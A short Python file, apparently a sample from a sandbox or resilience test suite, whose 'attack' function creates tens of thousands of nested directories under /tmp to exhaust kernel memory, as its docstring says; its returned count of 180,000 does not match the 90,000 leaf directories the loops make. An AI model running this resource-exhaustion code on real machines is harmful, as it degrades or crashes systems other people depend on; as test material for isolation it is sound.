"""Makes directories in each other and beside each other without end: each costs the kernel memory beside its page."""

import os


def attack(world):
    for outer in range(300):
        for inner in range(300):
            os.makedirs(f"/tmp/{outer}/{inner}/" + "d" * 200)
    return "180,000 directories"
